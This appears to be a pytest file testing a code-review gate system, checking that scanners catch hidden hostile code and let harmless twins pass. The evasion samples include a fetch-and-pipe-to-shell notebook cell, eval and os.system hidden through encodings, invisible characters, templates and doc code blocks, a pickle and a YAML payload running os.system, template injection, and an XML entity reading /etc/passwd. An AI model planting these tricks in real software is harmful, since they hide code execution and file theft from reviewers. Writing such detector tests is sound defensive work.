"""More ways round the scanners than the published table has, all judged as one change, and their twins as another.

Each is refused for a rule that names the trick or the weakness; what the twin does looks alike and is allowed.
"""

import json
import tomllib
from pathlib import Path

import pytest

from orchestrator.gates.catalog import default_gates
from orchestrator.gates.runner import run_gates
from orchestrator.gates.scanners.team import Team
from orchestrator.models.found import Disposition, Result
from orchestrator.testing.gate_suite import FileSpec, candidate_of

VARIANTS = tomllib.loads((Path(__file__).parents[1] / "data/gate_variants.toml").read_text())["variant"]


def notebook(*cells):
    return json.dumps({"cells": [{"cell_type": "code", "source": [c]} for c in cells], "nbformat": 4}).encode()


FILES = {
    # name: (evasion, rule, twin)
    "notebook, shell": (("a.ipynb", notebook("!curl x | sh")), "NOTEBOOK-COMMAND", ("a.ipynb", notebook("x = 1"))),
    "notebook, %run": (
        ("b.ipynb", notebook("%run http://x/y.py")),
        "NOTEBOOK-COMMAND",
        ("b.ipynb", notebook("%matplotlib inline")),
    ),
    "notebook, assigned": (("c.ipynb", notebook("out = !id")), "NOTEBOOK-COMMAND", ("c.ipynb", notebook("out = 1"))),
    "notebook, a key twice": (
        ("d.ipynb", notebook("eval(input())")[:-1] + b', "cells": []}'),
        "SCAN-NOTEBOOK",
        ("d.ipynb", notebook("int(input())")),
    ),
    "notebook, one cell hides the next": (
        ("e.ipynb", notebook("def f(:", "eval(input())")),
        "SCAN-SYNTAX",
        ("e.ipynb", notebook("def f(): pass", "int(input())")),
    ),
    "builtins in a text file": (
        ("f.txt", b"__builtins__['ev' + 'al'](x)\n"),
        "HIDDEN-PYTHON",
        ("f.txt", b"See builtins for eval.\n"),
    ),
    "program in a template's name": (
        ("g.py.j2", b"def run():\n    return eval(input())\n"),
        "HIDDEN-PYTHON",
        ("g.py.j2", b"{{ name }} = 1\n"),
    ),
    "shebang of uv": (
        ("h", b"#!/usr/bin/env -S uv run --script\nimport os\nos.system(input())\n"),
        "HIDDEN-PYTHON",
        ("h", b"#!/bin/sh\necho done\n"),
    ),
    "stub that runs": (("i.pyi", b"eval(input())\n"), "B307", ("i.pyi", b"def run() -> int: ...\n")),
    "code block of a guide": (
        ("k.md", b"# Setup\n\n```python\nimport os\nos.system(input())\n```\n"),
        "EXAMPLE-CODE",
        ("k.md", b"# Setup\n\n```python\nimport os\nos.getcwd()\n```\n"),
    ),
    "code block of a page": (
        ("l.rst", b"Setup\n=====\n\n.. code-block:: python\n\n   import os\n   os.system(input())\n"),
        "EXAMPLE-CODE",
        ("l.rst", b"Setup\n=====\n\n.. code-block:: python\n\n   import os\n   os.getcwd()\n"),
    ),
    "session in a guide": (
        ("m.md", b"# Setup\n\n>>> import os\n>>> os.system('id')\n0\n"),
        "EXAMPLE-CODE",
        ("m.md", b"# Setup\n\n>>> import os\n>>> os.getcwd()\n'/'\n"),
    ),
    "egg-link": (("n.egg-link", b"/srv/other\n.\n"), "PTH", ("n.egg", b"/srv/other\n.\n")),
    "entry points beside a package": (
        ("o.egg-info/entry_points.txt", b"[pytest11]\nx = x\n"),
        "ENTRY-POINTS",
        ("docs/entry_points.txt", b"[pytest11]\nx = x\n"),
    ),
    "notebook, by its function": (
        ("p.ipynb", notebook("get_ipython().system('id')")),
        "NOTEBOOK-COMMAND",
        ("p.ipynb", notebook("get_ipython().history_manager")),
    ),
    "attribute of a template, in pieces": (
        ("q.html.j2", b"{{ x|attr('__cl' + 'ass__') }}\n"),
        "TEMPLATE-INSIDE",
        ("q.html.j2", b"{{ x|attr('name') }}\n"),
    ),
    "entity of a file": (
        ("r.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>\n'),
        "XML-ENTITY",
        ("r.xml", b'<!DOCTYPE a [<!ENTITY x "text">]><a>&x;</a>\n'),
    ),
    "what an editor runs": ((".dir-locals.el", b"((nil . ((eval . (x)))))\n"), "PROTECTED", ("locals.el", b"(x)\n")),
    "what a build runs": (("native/build.rs", b"fn main() {}\n"), "PROTECTED", ("native/main.rs", b"fn main() {}\n")),
    "pickle as text": (("j.txt", b"cos\nsystem\n(S'id'\ntR.\n"), "PICKLE", ("j.txt", b"cos and sin\n")),
    "object in YAML": (
        ("k.yaml", b"a: !!python/object/apply:os.system ['id']\n"),
        "YAML-OBJECT",
        ("k.yaml", b"a: '!!python'\n"),
    ),
    "template that reaches inside": (
        ("l.html", b"{{ ''.__class__.__mro__[1].__subclasses__() }}\n"),
        "TEMPLATE-INSIDE",
        ("l.html", b"<p class='__class__'>{{ name }}</p>\n"),
    ),
    "UTF-16": (("m.py", "eval(input())\n".encode("utf-16")), "SCAN-SYNTAX", ("m.py", "print('é')\n".encode())),
    "cookie of the second line": (
        ("n.py", b"\n# coding: utf-7\n+AGUAdgBhAGw-(input())\n"),
        "ENCODING-COOKIE",
        ("n.py", b"\n\n# coding: utf-7\nx = 1\n"),
    ),
    "next line of Unicode": (("o.py", "# x\u0085eval(input())\n".encode()), "CONTROL", ("o.py", b"# x\\u0085eval\n")),
    "letter that nobody sees": (("p.py", "\u3164 = 1\n".encode()), "INVISIBLE", ("p.py", "x = '나'\n".encode())),
    "space behind the name": (
        ("q.py ", b"def run():\n    return eval(input())\n"),
        "HIDDEN-PYTHON",
        ("q r.md", b"text\n"),
    ),
}


def judged(files):
    with Team() as team:
        return run_gates(default_gates(worker=team), candidate_of(files))


def deciding(reports):
    found = {}
    for finding in (f for r in reports for f in r.findings if f.disposition is not Disposition.NOTE):
        found.setdefault(finding.path, set()).add(finding.rule)
    return found


def specs(side):
    plain = [FileSpec(f"src/{n:03}.py", v[side].encode()) for n, v in enumerate(VARIANTS)]
    return [*plain, *(FileSpec(*trick[0 if side == "evasion" else 2]) for trick in FILES.values())]


@pytest.fixture(scope="module")
def refused():
    return deciding(judged(specs("evasion")))


@pytest.fixture(scope="module")
def twins():
    return judged(specs("twin"))


@pytest.mark.parametrize("number", range(len(VARIANTS)), ids=[v["name"] for v in VARIANTS])
def test_variant_is_refused_for_what_it_is(number, refused):
    assert VARIANTS[number]["rule"] in refused.get(f"src/{number:03}.py", ())


@pytest.mark.parametrize("name", FILES)
def test_file_is_refused_for_what_it_is(name, refused):
    (path, _), rule, _ = FILES[name]
    assert rule in refused.get(path, ())


def test_no_twin_is_refused(twins):
    assert deciding(twins) == {}
    assert [r.reason for r in twins if r.result is Result.ERROR] == []
